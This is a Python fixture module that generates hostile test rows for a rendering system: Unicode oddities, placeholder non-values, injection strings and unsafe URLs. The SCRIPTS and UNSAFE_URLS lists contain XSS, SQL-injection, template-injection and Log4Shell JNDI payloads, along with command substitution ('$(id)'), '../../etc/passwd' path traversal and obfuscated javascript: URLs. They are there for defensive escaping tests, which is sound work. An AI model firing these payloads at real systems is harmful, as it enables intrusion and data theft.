"""Every Unicode oddity that PostgreSQL can store, scripts in names, and URLs in disguise."""

from __future__ import annotations

from scripts.demo.hostile.places import PLACES, Placer
from scripts.demo.shape import Columns, Maker, Shapes
from scripts.demo.values import Values

shapes = Shapes(hostile=True, weight=0.03)

#: Everything but U+0000 and lone surrogates, which PostgreSQL refuses.
UNICODE: tuple[str, ...] = (
    "\u202eمرحبا\u202c txet",
    "\u2066isolated\u2069",
    "zero\u200bwidth\u200c\u200djoiner\u2060",
    "\ufeffbyte order mark",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "e\u0301 and é",
    "\u0301starts with a combining mark",
    "\ufffe\uffff\ufdd0\U0001fffe",
    "\ue000private\U000f0000",
    "\ufffd",
    "👩‍👩‍👧‍👦 family",
    "🏳️‍🌈🇳🇬👍🏿",
    "\U0001d4d0\U0001d4f7\U0001d4f7",
    "\u00a0",
    "\u3000\u2003\u2007\u202f\u205f\u1680\u180e",
    "\u0085next line\u0085",
    "\u2028line\u2029paragraph",
    "\u200b",
    "\u2800",
    "\x01\x02\x1b[31mred\x7f",
    "tab\tnew\nline\r\n",
    "\x0b\x0c",
    "İstanbul ıI ß ﬁ ǅ ς Σ",
    "ⅨⅩ",
    "ﷺ" * 20,
    "\U000e0041\U000e0042tags",
    "𒐫" * 50,
    "\u0600\u06dd\u070f",
    "\u0378unassigned\U0003ffff",
    "\U0010ffff",
    "\\u0000",
    "\\",
    "'",
    '"',
    "%s%n%x",
    "\u00ad",
    "Ａｎｎ Ｌｅｅ",
    "a" + "\u0300" * 1000,
    "مُحَمَّد",
    "नमस्ते",
    "ไม่มีช่องว่าง",
    "한국어",
    "繁體中文",
    "\u115f\u1160\u3164\uffa0",
)

#: What is not a name, a place or a product though it stands in their field (contract section 4, "first of").
NO_VALUES: tuple[str, ...] = (
    "Unknown",
    "undefined",
    "undefined undefined",
    "undefined, undefined",
    "null",
    "null null",
    "N/A",
    "n/a",
    "Anonymous",
    "SOMEONE",
    " someone ",
    "-",
    "123",
    "!!!",
    "a product",
    "Product",
    "\u00a0undefined\u00a0",
    "None",
)

#: Text that must come through verbatim: escaping is the renderer's work.
SCRIPTS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)//",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "'; drop table events; --",
    "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "${jndi:ldap://x.example.com/a}",
    '=HYPERLINK("http://x.example.com")',
    "@SUM(1+1)",
    "&lt;b&gt;",
    "&#106;avascript",
    "<!--",
    "]]>",
    "%00",
    "../../etc/passwd",
    "$$; select 1; $$",
    "%(name)s",
    "{0}",
    "\\copy",
    "`id`",
    "$(id)",
    "a,b;c|d\te",
)

UNSAFE_URLS: tuple[str, ...] = (
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    "  javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "java\x02script:alert(1)",
    "javascript\u200b:alert(1)",
    "javascript :alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "java&#115;cript:alert(1)",
    "javascript%3Aalert(1)",
    "\ufeffjavascript:alert(1)",
    "ｊａｖａｓｃｒｉｐｔ:alert(1)",
    "jаvascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "DATA:text/html,x",
    "vbscript:msgbox(1)",
    "VbScRiPt:x",
    "feed:javascript:alert(1)",
    "view-source:javascript:x",
    "blob:https://x.example.com/1",
    "file:///etc/passwd",
    "mailto:ann@example.com",
    "tel:+10000000",
    "intent://x#Intent;end",
    "ftp://example.com/x",
    "about:blank",
    "x-unknown:1",
    "http:javascript:alert(1)",
)
OTHER_URLS: tuple[str, ...] = (
    "https://example.com/ok",
    "HTTP://EXAMPLE.COM/OK",
    " https://example.com/spaces ",
    "//cdn.example.com/x.png",
    "/relative/path",
    "relative/path",
    "?q=1",
    "#top",
    "www.example.com",
    "example.com:8080/x",
    "https://user:pass@example.com/",
    "https://[::1]/",
    "https://example.com/" + "a" * 5000,
    "https://пример.example.com/ü?ö=ß",
    "https://example.com/a b",
    "https://",
    "https:example.com",
    "https://example.com/#javascript:alert(1)",
    "https://example.com/?u=javascript:alert(1)",
    "http:/one-slash",
    "C:\\temp\\x.png",
    "\\\\server\\share",
)


def _text(placer: Placer, text: str) -> Maker:
    def make(v: Values) -> Columns:
        row = placer(text)
        return {
            **row,
            "user_name": text,
            "user_location": text,
            "message_template": text,
            "page_url": text,
            "user_email": f"{text}@example.com",
        }

    return make


for _group, _values in (("unicode", UNICODE), ("no-value", NO_VALUES), ("script", SCRIPTS)):
    for _n, _value in enumerate(_values):
        for _provider, _by, _placer in (PLACES[(_n + k) % len(PLACES)] for k in (0, 4)):
            shapes.add(f"hostile-{_group}-{_n:02d}-{_provider}", "hostile", _provider, _by, _text(_placer, _value))

# URLs stand in these providers' fields.
_URL_PLACES = tuple(
    p for p in PLACES if p[0] in ("shopify", "testimonials", "announcements", "live_visitors", "typeform")
)
for _group, _values in (("unsafe-url", UNSAFE_URLS), ("url", OTHER_URLS)):
    for _n, _value in enumerate(_values):
        for _provider, _by, _placer in (_URL_PLACES[(_n + k) % len(_URL_PLACES)] for k in (0, 2)):
            shapes.add(f"hostile-{_group}-{_n:02d}-{_provider}", "hostile", _provider, _by, _text(_placer, _value))
